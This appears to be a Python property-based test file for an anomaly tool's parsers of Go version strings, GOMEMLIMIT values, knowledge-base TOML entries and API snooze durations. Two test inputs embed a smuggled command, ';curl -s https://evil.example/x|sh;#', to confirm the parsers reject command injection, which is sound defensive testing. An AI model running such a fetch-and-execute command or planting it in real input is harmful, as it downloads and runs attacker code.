"""Property tests of the text the rules read: versions and GOMEMLIMIT from agents, the
knowledge base's TOML entries and version constraints, and the snooze times people send.

Agent-sent strings never raise; the knowledge loader raises only KnowledgeError on a bad
entry; snooze input raises only ActionError (a 400), never a server error.
"""

from __future__ import annotations

import re
import tomllib
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from apps.anomalies import suggest
from apps.anomalies.actions import (
    MAX_SNOOZE,
    MIN_SNOOZE,
    ActionError,
    parse_duration,
    parse_until,
    snooze_until,
)
from apps.anomalies.advice import KNOWLEDGE_DIR, KnowledgeError, _check, fill, parse_constraint
from apps.anomalies.advice import satisfies as version_satisfies
from apps.anomalies.detectors import facts
from apps.common.shapes import PLACEHOLDERS, check, snippet_value, validate

NOW = datetime(2026, 11, 23, 12, 0, tzinfo=timezone.utc)
versions = st.tuples(st.integers(0, 999), st.integers(0, 999), st.integers(0, 999))


# ---- versions and GOMEMLIMIT from agents ----------------------------------------------------


@given(st.one_of(st.none(), st.text(max_size=40)))
@example("v0.16.2-pre.1")
@example("(devel)")
def test_version_text_parses_to_a_triple_or_none(text):
    parsed = facts.parse_version(text)
    assert parsed is None or (len(parsed) == 3 and all(n >= 0 for n in parsed))
    version, estimated = facts.gopls_version(text or "", text or "")
    assert version is None or len(version) == 3
    assert isinstance(estimated, bool)
    minor = facts.go_minor(text)
    assert minor is None or minor >= 0


@given(st.tuples(st.integers(0, 9999), st.integers(0, 9999), st.integers(0, 9999)))
def test_versions_round_trip_through_their_text_and_only_the_strict_form_parses(version):
    text = facts.format_version(version)
    assert facts.parse_version(text) == version
    # #11: anything but vMAJOR.MINOR.PATCH[-pre] is unknown (the old parser took prefixes).
    assert facts.parse_version(text[1:]) is None
    assert facts.parse_version(text + ";curl -s https://evil.example/x|sh;#") is None
    assert facts.parse_version(" " + text) is None


@given(st.text(max_size=30))
@example("4GB")
@example(" 1024MiB ")
@example("off")
def test_gomemlimit_is_bytes_only_when_the_go_runtime_would_accept_it(value):
    limit = facts.gomemlimit_bytes(value)
    # "" and "off" (exactly) mean no limit; surrounding spaces make the runtime abort
    assert (limit is not None) == (facts.gomemlimit_valid(value) and value not in ("", "off"))
    assert limit is None or limit >= 0


@given(st.integers(1, 2**40).map(lambda n: n * facts.MIB))
def test_iec_values_are_valid_go_syntax(n):
    text = facts.iec(n)
    assert facts.gomemlimit_valid(text)
    assert 0 < facts.gomemlimit_bytes(text) <= n


sizes = st.one_of(st.none(), st.floats(0, 2**45), st.integers(1, 2**45).map(float))


@given(sizes, sizes)
def test_a_suggested_gomemlimit_is_safe_or_absent_with_a_reason(steady, ceiling):
    s = suggest.gomemlimit(steady, ceiling, "cgroup")
    assert validate("prose", s.reason)
    if s.value is None:
        return
    assert facts.gomemlimit_valid(s.value)
    assert facts.gomemlimit_bytes(s.value) == s.bytes
    assert s.bytes >= 1.25 * steady
    assert s.bytes <= 0.75 * ceiling


@given(sizes, sizes)
def test_a_suggested_wsl_cap_is_above_the_cap_and_leaves_windows_room(cap, host):
    s = suggest.wsl_memory(cap, host)
    assert validate("prose", s.reason)
    if s.value is None:
        return
    assert validate("wsl_size", s.value)
    assert s.bytes > cap
    assert s.bytes <= host - max(4 * 2**30, host / 4)


@given(st.one_of(st.none(), st.floats(), st.integers(-(2**70), 2**70)))
def test_human_sizes_never_raise(n):
    assert isinstance(facts.human(n), str)


# ---- knowledge base ------------------------------------------------------------------------

ops = st.sampled_from([">=", "<=", ">", "<", "=="])


@given(st.lists(st.tuples(ops, versions), max_size=4), versions)
def test_constraints_round_trip_and_decide_like_tuple_comparison(parts, version):
    spec = ", ".join(f"{op}v{a}.{b}.{c}" for op, (a, b, c) in parts)
    assert parse_constraint(spec) == parts
    compare = {
        ">=": tuple.__ge__,
        "<=": tuple.__le__,
        ">": tuple.__gt__,
        "<": tuple.__lt__,
        "==": tuple.__eq__,
    }
    assert version_satisfies(version, spec) == all(compare[op](version, b) for op, b in parts)


@given(st.text(max_size=40))
@example(">=1.2.3.4")
@example(">=99999999999999999999")
def test_a_bad_constraint_is_a_knowledge_error(spec):
    try:
        parse_constraint(spec)
    except KnowledgeError:
        pass


names = st.sampled_from([*PLACEHOLDERS, "other"])


@given(
    st.lists(st.one_of(names.map(lambda n: "{" + n + "}"), st.text(max_size=8)), max_size=6),
    st.dictionaries(names, st.one_of(st.none(), st.text(max_size=20), st.integers())),
)
@example(["{old_version}"], {"old_version": "v0.16.1;curl -s https://evil.example/x|sh;#"})
@example(["{gomemlimit}", " {}"], {"gomemlimit": "3GiB"})
def test_a_snippet_is_filled_only_with_values_of_their_shape(parts, values):
    text = "".join(parts)
    filled = fill(text, values)
    used = set(re.findall(r"\{([a-z_]+)\}", text))
    ok = all(snippet_value(n) and check(n, values.get(n)) is not None for n in used)
    assert (filled is not None) == ok
    if filled is not None:
        assert "evil.example" not in filled or "evil.example" in text


toml_scalars = st.one_of(
    st.text(max_size=10), st.integers(-5, 5), st.booleans(), st.lists(st.text(max_size=5))
)
entries = st.fixed_dictionaries(
    {},
    optional={
        "id": st.sampled_from(["gopls_memory_leak", "other"]),
        "version": toml_scalars,
        "title": toml_scalars,
        "severity": toml_scalars,
        "meaning": toml_scalars,
        "why": toml_scalars,
        "sources": toml_scalars,
        "fix": st.one_of(
            toml_scalars,
            st.lists(
                st.one_of(
                    toml_scalars,
                    st.dictionaries(
                        st.sampled_from(["text", "gopls", "go", "wsl", "platforms", "editors"]),
                        toml_scalars,
                    ),
                ),
                max_size=3,
            ),
        ),
    },
)


@given(entries)
@example(
    {
        "id": "gopls_memory_leak",
        "version": 1,
        "title": "t",
        "severity": "warning",
        "meaning": "m",
        "why": "w",
        "sources": [],
        "fix": [{"text": "x", "gopls": 5}],
    }
)
@example(
    {
        "id": "gopls_memory_leak",
        "version": 1,
        "title": "t",
        "severity": "warning",
        "meaning": "m",
        "why": "w",
        "sources": [],
        "fix": "not a list",
    }
)
def test_a_malformed_knowledge_entry_is_a_knowledge_error(entry):
    try:
        _check(entry, Path("gopls_memory_leak.toml"))
    except KnowledgeError:
        pass


@pytest.mark.parametrize("path", sorted(KNOWLEDGE_DIR.glob("*.toml")), ids=lambda p: p.stem)
def test_every_shipped_knowledge_entry_passes_the_loader_checks(path):
    _check(tomllib.loads(path.read_text()), path)


# ---- snooze times from the API -------------------------------------------------------------


@given(
    st.one_of(
        st.text(max_size=20),
        st.integers(-(2**70), 2**70),
        st.floats(),
        st.none(),
        st.booleans(),
        st.lists(st.integers(), max_size=2),
    )
)
@example("9999999w")
@example("١٢h")
@example(float("nan"))
def test_a_duration_is_a_bounded_timedelta_or_an_action_error(value):
    try:
        duration = parse_duration(value)
    except ActionError as exc:
        assert exc.status == 400  # noqa: PT017
        return
    assert duration <= MAX_SNOOZE


@given(st.one_of(st.text(max_size=70), st.integers(), st.none()))
@example("9999-12-31T23:59:59-23:59")
@example("0001-01-01T00:00:00+23:59")
@example("2026-11-23T12:00:00")
def test_until_is_an_aware_time_or_an_action_error(value):
    try:
        until = parse_until(value)
    except ActionError:
        return
    assert until.utcoffset() is not None


@given(
    st.one_of(
        st.dictionaries(
            st.sampled_from(["until", "duration", "other"]),
            st.one_of(st.text(max_size=30), st.integers(-(2**40), 2**40), st.floats()),
        ),
        st.text(max_size=5),
        st.none(),
    )
)
@example({"until": "9999-12-31T23:59:59-23:59"})
@example({"duration": 2**62})
def test_a_snooze_ends_between_a_minute_and_ninety_days_or_is_refused(body):
    try:
        until = snooze_until(body, NOW)
    except ActionError:
        return
    assert NOW + MIN_SNOOZE <= until <= NOW + MAX_SNOOZE


@given(st.integers(60, int(MAX_SNOOZE.total_seconds())), st.sampled_from(["s", "m", "h", "d"]))
def test_durations_in_every_unit_mean_what_they_say(seconds, unit):
    size = {"s": 1, "m": 60, "h": 3600, "d": 86400}[unit]
    count = max(1, seconds // size)
    assert parse_duration(f"{count}{unit}") == timedelta(seconds=count * size)
